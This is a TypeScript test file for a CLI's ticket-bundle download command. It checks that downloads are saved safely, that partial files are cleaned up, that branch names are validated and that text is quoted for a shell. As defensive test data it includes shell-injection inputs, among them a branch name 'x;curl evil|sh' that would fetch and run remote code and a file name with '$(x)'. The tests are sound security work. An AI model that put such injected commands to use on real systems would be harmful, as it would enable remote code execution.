import { execFileSync } from 'node:child_process';
import { mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { runResult } from '../../../contract/runs.ts';
import { scriptedServer, skep } from '../../../test/harness/cli.ts';
import type { Answer, Call } from '../../../test/harness/cli.ts';
import { shellWord } from '../output/text.ts';

const at = '2026-01-02T03:04:05.000Z';
const uuid = '11111111-2222-4333-8444-555555555555';
const run = (branch: string) => ({
  ...{
    id: uuid,
    subject_type: 'ticket',
    subject_id: 'TKT-001',
    ticket_id: 'TKT-001',
    attempt: 1,
    state: 'accepted',
    worker: 'w',
    fence: 1,
    ...{ project_id: null, health: 'ok', phase: null },
  },
  ...{ lease_expires_at: null, failure_class: null, failure_message: null, created_at: at, leased_at: at },
  ...{ started_at: at, ended_at: at, result: { summary: '', branch, head: 'a'.repeat(40), bundle: 'b'.repeat(64) } },
});

let branch: string;
let isCut: boolean;
let folder: string;
let server: Awaited<ReturnType<typeof scriptedServer>>;
beforeEach(async () => {
  [branch, isCut] = ['skep/TKT-001', false];
  folder = mkdtempSync(join(tmpdir(), 'skep-bundle-'));
  server = await scriptedServer(answer);
});
afterEach(async () => {
  await server.close();
  rmSync(folder, { recursive: true, force: true });
});

function answer({ path }: Call): Answer {
  return path.endsWith('/bundle')
    ? { text: '# v2 git bundle\n', breaksOff: isCut }
    : { json: { runs: [run(branch)], next: null } };
}

const save = (file: string) => skep(['ticket', 'bundle', '1', '--output', file], { env: { SKEP_SERVER: server.url } });

describe('skep ticket bundle', () => {
  it('saves the work, and prints a command whose words a shell takes as they are', async () => {
    const file = join(folder, "it's; touch $(x).bundle");
    const { code, out } = await save(file);
    expect(code).toBe(0);
    expect(readFileSync(file, 'utf8')).toBe('# v2 git bundle\n');
    expect(readdirSync(folder)).toHaveLength(1);
    const command = /^next\s+(.*)$/m.exec(out)?.[1] ?? '';
    const words = execFileSync('sh', ['-c', `printf '%s\\n' ${command}`], { encoding: 'utf8', cwd: folder });
    expect(words).toBe(`git\nfetch\n${file}\nskep/TKT-001:skep/TKT-001\n`);
  });

  it('leaves nothing of a download that broke off', async () => {
    isCut = true;
    const { code, err } = await save(join(folder, 'one.bundle'));
    expect([code, readdirSync(folder)]).toEqual([6, []]);
    expect(err).toContain('does not answer');
  });

  it('begins anew where a killed one has left its part, and overwrites no file', async () => {
    const file = join(folder, 'one.bundle');
    writeFileSync(`${file}.part`, 'half');
    expect((await save(file)).code).toBe(0);
    writeFileSync(file, 'mine');
    expect((await save(file)).code).toBe(4);
    expect(readFileSync(file, 'utf8')).toBe('mine');
    expect(readdirSync(folder)).toEqual(['one.bundle']);
  });

  it('takes no branch from a worker that git or a shell would take for something else', async () => {
    branch = 'x;curl evil|sh';
    expect((await save(join(folder, 'one.bundle'))).code).not.toBe(0);
    expect(readdirSync(folder)).toEqual([]);
  });
});

describe('the branch of a result', () => {
  const takes = (name: string) => runResult.safeParse({ branch: name }).success;

  it.each(['skep/TKT-001', 'main', 'a.b_c-d/e', '0', 'a'.repeat(200)])('may be %s', name => {
    expect(takes(name)).toBe(true);
  });

  it.each(
    ['', '-x', '/x', '.x', 'a..b', 'a//b', 'a@{1}', 'a.lock', 'a.lock/b', 'a/.b', 'a/', 'a.', 'a b', 'a;b', 'a\nb', 'a\n'].concat(
      ['a:b', '$(x)', 'é', 'a'.repeat(201)],
    ),
  )('may not be %j', name => {
    expect(takes(name)).toBe(false);
  });
});

describe('a word for a shell', () => {
  it.each([
    ['skep/TKT-001:x', 'skep/TKT-001:x'],
    ['', "''"],
    ['a b', "'a b'"],
    ["it's", "'it'\\''s'"],
    ['\u001b[31m', "' [31m'"],
  ])('makes of %j %s', (text, word) => {
    expect(shellWord(text)).toBe(word);
  });
});
